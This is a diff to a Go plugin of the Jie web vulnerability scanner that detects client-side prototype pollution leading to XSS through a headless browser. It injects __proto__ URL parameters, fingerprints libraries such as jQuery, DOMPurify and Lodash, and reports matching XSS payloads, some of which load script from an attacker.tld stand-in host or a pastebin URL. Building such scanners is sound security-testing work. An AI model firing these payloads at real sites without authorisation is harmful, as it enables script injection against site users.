@@ -1,9 +1,14 @@
 package xss
 
 import (
+    "context"
+    "errors"
     "github.com/chromedp/chromedp"
     "github.com/yhy0/Jie/crawler"
+    "github.com/yhy0/Jie/pkg/input"
     "github.com/yhy0/Jie/pkg/output"
+    "github.com/yhy0/Jie/pkg/protocols/httpx"
+    "github.com/yhy0/Jie/pkg/util"
     "github.com/yhy0/logging"
     "strings"
     "time"
@@ -15,7 +20,7 @@ import (
   @desc: 通过 原型链污染 寻找 xss https://github.com/kleiton0x00/ppmap
 **/
 
-var fingerprint = `;() => {
+var fingerprint = `(() => {
   let gadgets = 'default';
   if (typeof _satellite !== 'undefined') {
     gadgets = 'Adobe Dynamic Tag Management ';
@@ -79,66 +84,78 @@ var fingerprint = `;() => {
     gadgets = 'jQuery';
   }
  return gadgets;
-};
-
+})()
 `
 
-var ppp = [4]string{
-    "constructor%5Bprototype%5D%5Bppmap%5D=reserved",
-    "__proto__.ppmap=reserved",
-    "constructor.prototype.ppmap=reserved",
-    "__proto__%5Bppmap%5D=reserved",
+// 客户端原型链污染的 payload，{marker} 替换为随机值
+var ppp = []string{
+    "constructor%5Bprototype%5D%5Bppmap%5D={marker}",
+    "__proto__.ppmap={marker}",
+    "constructor.prototype.ppmap={marker}",
+    "__proto__%5Bppmap%5D={marker}",
 }
 
-func Prototype(u string) {
-    res := strings.Contains(u, "?")
+// Prototype 在爬虫的浏览器中打开带有 payload 的地址，Object.prototype 被污染后识别页面中可以利用的 gadget，没有启动浏览器时不检测
+func Prototype(in *input.CrawlResult, client *httpx.Client) {
+    if crawler.Browser == nil || in.ParseUrl == nil {
+        return
+    }
+    u := *in.ParseUrl
+    u.Fragment = ""
+    base := u.String()
+    if strings.Contains(base, "?") {
+        queryEnum(in, base, `&`, client)
+        return
+    }
+    if queryEnum(in, base, `?`, client) {
+        return
+    }
+    queryEnum(in, base, `#`, client)
+}
 
-    if res == true {
-        queryEnum(u, `&`)
-    } else {
-        if queryEnum(u, `?`) {
-            return
-        }
-        queryEnum(u, `#`)
+// evaluate 打开 u，返回 Object.prototype 是否被污染以及页面中的 gadget，每次打开页面消耗一次请求数
+func evaluate(client *httpx.Client, u, marker string) (bool, string, error) {
+    if err := client.Spend(); err != nil {
+        return false, "", err
+    }
+    var parent context.Context
+    if client != nil {
+        parent = client.Ctx
+    }
+    ctx, cancel := crawler.Browser.NewTabContext(parent, 20*time.Second)
+    defer cancel()
+    
+    var polluted bool
+    err := chromedp.Run(ctx,
+        chromedp.Navigate(u),
+        chromedp.Sleep(3*time.Second),
+        chromedp.Evaluate(`Object.prototype.ppmap === "`+marker+`"`, &polluted),
+    )
+    if err != nil || !polluted {
+        return false, "", err
     }
+    
+    // 等待第三方脚本加载完再识别 gadget
+    gadget := "default"
+    if err = chromedp.Run(ctx, chromedp.Sleep(5*time.Second), chromedp.Evaluate(fingerprint, &gadget)); err != nil {
+        logging.Logger.Debugln("[Prototype Pollution] fingerprint", u, err)
+    }
+    return true, gadget, nil
 }
 
-func queryEnum(u, quote string) bool {
+func queryEnum(in *input.CrawlResult, u, quote string, client *httpx.Client) bool {
+    marker := util.RandomLetterNumbers(8)
     for _, p := range ppp {
-        full_url := u + quote + p
-
-        // run task list
-        var res string
-        err := chromedp.Run(*crawler.Browser.Ctx,
-            chromedp.Navigate(full_url),
-            // 首先根据 payload 检测 js 是否输出 reserved
-            chromedp.Evaluate(`window.ppmap`, &res),
-        )
-        if err != nil {
-            continue
+        fullUrl := u + quote + strings.ReplaceAll(p, "{marker}", marker)
+        polluted, res, err := evaluate(client, fullUrl, marker)
+        if errors.Is(err, httpx.ErrBudgetExhausted) {
+            return false
         }
-
-        logging.Logger.Infoln("[Vulnerable]:", full_url)
-        time.Sleep(1 * time.Second)
-
-        // 具体的指纹检测
-        logging.Logger.Infoln("Fingerprinting the gadget...")
-
-        var res1 string
-        err1 := chromedp.Run(*crawler.Browser.Ctx,
-            chromedp.Navigate(u),
-            //change the value 5 to a higher one if your internet connection is slow
-            chromedp.Sleep(8*time.Second),
-            chromedp.Evaluate(fingerprint, &res1),
-        )
-        if err1 != nil {
+        if err != nil || !polluted {
             continue
         }
-
-        logging.Logger.Infoln(full_url, " Gadget found: ", res1)
-        time.Sleep(1 * time.Second)
-
-        //vulnerable := true
+        logging.Logger.Infoln("[Prototype Pollution]", fullUrl, "gadget:", res)
+        
         payloads := []string{}
         if strings.Contains(res, "default") {
             logging.Logger.Debugln(" No gadget found")
@@ -149,7 +166,7 @@ func queryEnum(u, quote string) bool {
         } else if strings.Contains(res, "Akamai Boomerang") {
             payloads = append(payloads, u+quote+"__proto__[BOOMR]=1&__proto__[url]=//attacker.tld/js.js")
         } else if strings.Contains(res, "Closure") {
-            payloads = append(payloads, u+quote+"__proto__[*%%20ONERROR]=1&__proto__[*%%20SRC]=1")
+            payloads = append(payloads, u+quote+"__proto__[*%20ONERROR]=1&__proto__[*%20SRC]=1")
             payloads = append(payloads, u+quote+"__proto__[CLOSURE_BASE_PATH]=data:,alert(1)//")
         } else if strings.Contains(res, "DOMPurify") {
             payloads = append(payloads, u+quote+"__proto__[ALLOWED_ATTR][0]=onerror&__proto__[ALLOWED_ATTR][1]=src")
@@ -157,19 +174,19 @@ func queryEnum(u, quote string) bool {
         } else if strings.Contains(res, "Embedly") {
             payloads = append(payloads, u+quote+"__proto__[onload]=alert(1)")
         } else if strings.Contains(res, "jQuery") {
-            payloads = append(payloads, u+quote+"__proto__[context]=<img/src/onerror%%3dalert(1)>&__proto__[jquery]=x")
+            payloads = append(payloads, u+quote+"__proto__[context]=<img/src/onerror%3dalert(1)>&__proto__[jquery]=x")
             payloads = append(payloads, u+quote+"__proto__[url][]=data:,alert(1)//&__proto__[dataType]=script")
             payloads = append(payloads, u+quote+"__proto__[url]=data:,alert(1)//&__proto__[dataType]=script&__proto__[crossDomain]=")
             payloads = append(payloads, u+quote+"__proto__[src][]=data:,alert(1)//")
             payloads = append(payloads, u+quote+"__proto__[url]=data:,alert(1)//")
-            payloads = append(payloads, u+quote+"__proto__[div][0]=1&__proto__[div][1]=<img/src/onerror%%3dalert(1)>&__proto__[div][2]=1")
-            payloads = append(payloads, u+quote+"__proto__[preventDefault]=x&__proto__[handleObj]=x&__proto__[delegateTarget]=<img/src/onerror%%3dalert(1)>")
+            payloads = append(payloads, u+quote+"__proto__[div][0]=1&__proto__[div][1]=<img/src/onerror%3dalert(1)>&__proto__[div][2]=1")
+            payloads = append(payloads, u+quote+"__proto__[preventDefault]=x&__proto__[handleObj]=x&__proto__[delegateTarget]=<img/src/onerror%3dalert(1)>")
         } else if strings.Contains(res, "js-xss") {
             payloads = append(payloads, u+quote+"__proto__[whiteList][img][0]=onerror&__proto__[whiteList][img][1]=src")
         } else if strings.Contains(res, "Knockout.js") {
             payloads = append(payloads, u+quote+"__proto__[4]=a':1,[alert(1)]:1,'b&__proto__[5]=,")
         } else if strings.Contains(res, "Lodash <= 4.17.15") {
-            payloads = append(payloads, u+quote+"__proto__[sourceURL]=%%E2%%80%A8%%E2%%80%%A9alert(1)")
+            payloads = append(payloads, u+quote+"__proto__[sourceURL]=%E2%80%A8%E2%80%A9alert(1)")
         } else if strings.Contains(res, "Marionette.js / Backbone.js") {
             payloads = append(payloads, u+quote+"__proto__[tagName]=img&__proto__[src][]=x:&__proto__[onerror][]=alert(1)")
         } else if strings.Contains(res, "Google reCAPTCHA") {
@@ -178,9 +195,9 @@ func queryEnum(u, quote string) bool {
             payloads = append(payloads, u+quote+"__proto__[*][]=onload")
             payloads = append(payloads, u+quote+"__proto__[innerText]=<script>alert(1)</script>")
         } else if strings.Contains(res, "Segment Analytics.js") {
-            payloads = append(payloads, u+quote+"__proto__[script][0]=1&__proto__[script][1]=<img/src/onerror%%3dalert(1)>&__proto__[script][2]=1")
+            payloads = append(payloads, u+quote+"__proto__[script][0]=1&__proto__[script][1]=<img/src/onerror%3dalert(1)>&__proto__[script][2]=1")
         } else if strings.Contains(res, "Sprint.js") {
-            payloads = append(payloads, u+quote+"__proto__[div][intro]=<img%%20src%%20onerror%%3dalert(1)>")
+            payloads = append(payloads, u+quote+"__proto__[div][intro]=<img%20src%20onerror%3dalert(1)>")
         } else if strings.Contains(res, "Swiftype Site Search") {
             payloads = append(payloads, u+quote+"__proto__[xxx]=alert(1)")
         } else if strings.Contains(res, "Tealium Universal Tag") {
@@ -199,15 +216,15 @@ func queryEnum(u, quote string) bool {
             payloads = append(payloads, u+quote+`__proto__[props][][value]=a&__proto__[name]=":''.constructor.constructor('alert(1)')(),"")`)
             payloads = append(payloads, u+quote+"__proto__[template]=<script>alert(1)</script>")
         } else if strings.Contains(res, "Popper.js") {
-            payloads = append(payloads, u+quote+"__proto__[arrow][style]=color:red;transition:all%%201s&__proto__[arrow][ontransitionend]=alert(1)")
-            payloads = append(payloads, u+quote+"__proto__[reference][style]=color:red;transition:all%%201s&__proto__[reference][ontransitionend]=alert(2)")
-            payloads = append(payloads, u+quote+"__proto__[popper][style]=color:red;transition:all%%201s&__proto__[popper][ontransitionend]=alert(3)")
+            payloads = append(payloads, u+quote+"__proto__[arrow][style]=color:red;transition:all%201s&__proto__[arrow][ontransitionend]=alert(1)")
+            payloads = append(payloads, u+quote+"__proto__[reference][style]=color:red;transition:all%201s&__proto__[reference][ontransitionend]=alert(2)")
+            payloads = append(payloads, u+quote+"__proto__[popper][style]=color:red;transition:all%201s&__proto__[popper][ontransitionend]=alert(3)")
         } else if strings.Contains(res, "Pendo Agent") {
-            payloads = append(payloads, u+quote+"__proto__[dataHost]=attacker.tld/js.js%%23")
+            payloads = append(payloads, u+quote+"__proto__[dataHost]=attacker.tld/js.js%23")
         } else if strings.Contains(res, "i18next") {
-            payloads = append(payloads, u+quote+"__proto__[lng]=cimode&__proto__[appendNamespaceToCIMode]=x&__proto__[nsSeparator]=<img/src/onerror%%3dalert(1)>")
-            payloads = append(payloads, u+quote+"__proto__[lng]=a&__proto__[a]=b&__proto__[obj]=c&__proto__[k]=d&__proto__[d]=<img/src/onerror%%3dalert(1)>")
-            payloads = append(payloads, u+quote+"__proto__[lng]=a&__proto__[key]=<img/src/onerror%%3dalert(1)>")
+            payloads = append(payloads, u+quote+"__proto__[lng]=cimode&__proto__[appendNamespaceToCIMode]=x&__proto__[nsSeparator]=<img/src/onerror%3dalert(1)>")
+            payloads = append(payloads, u+quote+"__proto__[lng]=a&__proto__[a]=b&__proto__[obj]=c&__proto__[k]=d&__proto__[d]=<img/src/onerror%3dalert(1)>")
+            payloads = append(payloads, u+quote+"__proto__[lng]=a&__proto__[key]=<img/src/onerror%3dalert(1)>")
         } else if strings.Contains(res, "Demandbase Tag") {
             payloads = append(payloads, u+quote+"__proto__[Config][SiteOptimization][enabled]=1&__proto__[Config][SiteOptimization][recommendationApiURL]=//attacker.tld/json_cors.php?")
         } else if strings.Contains(res, "Google Tag Manager plugin for analytics") {
@@ -226,20 +243,27 @@ func queryEnum(u, quote string) bool {
         } else if strings.Contains(res, "AMP") {
             payloads = append(payloads, u+quote+"__proto__.ampUrlPrefix=https://pastebin.com/raw/E9f7BSwb")
         }
-
-        // 没有的话,手动测试
-        output.OutChannel <- output.VulMessage{
+        
+        level := output.Medium
+        description := "Object.prototype can be polluted through the URL, no known script gadget is found on the page, the pollution may still be exploitable manually."
+        if len(payloads) > 0 {
+            level = output.High
+            description = "Object.prototype can be polluted through the URL and the page loads " + res + ", which has known gadgets leading to XSS. Try the possible payloads."
+        }
+        client.Report(output.VulMessage{
             DataType: "web_vul",
             Plugin:   "XSS Prototype Pollution",
             VulnData: output.VulnData{
-                CreateTime: time.Now().Format("2006-01-02 15:04:05"),
-                Target:     u,
-                VulnType:   "Prototype Pollution XSS",
-                Method:     "GET",
-                Payload:    "Gadget " + res + " \t possible payloads \n" + strings.Join(payloads, "\n"),
+                CreateTime:  time.Now().Format("2006-01-02 15:04:05"),
+                Target:      in.Url,
+                Ip:          in.Ip,
+                VulnType:    "Prototype Pollution XSS",
+                Method:      "GET",
+                Payload:     fullUrl + "\nGadget " + res + " \t possible payloads \n" + strings.Join(payloads, "\n"),
+                Description: description,
             },
-            Level: output.Medium,
-        }
+            Level: level,
+        })
         return true
     }
     return false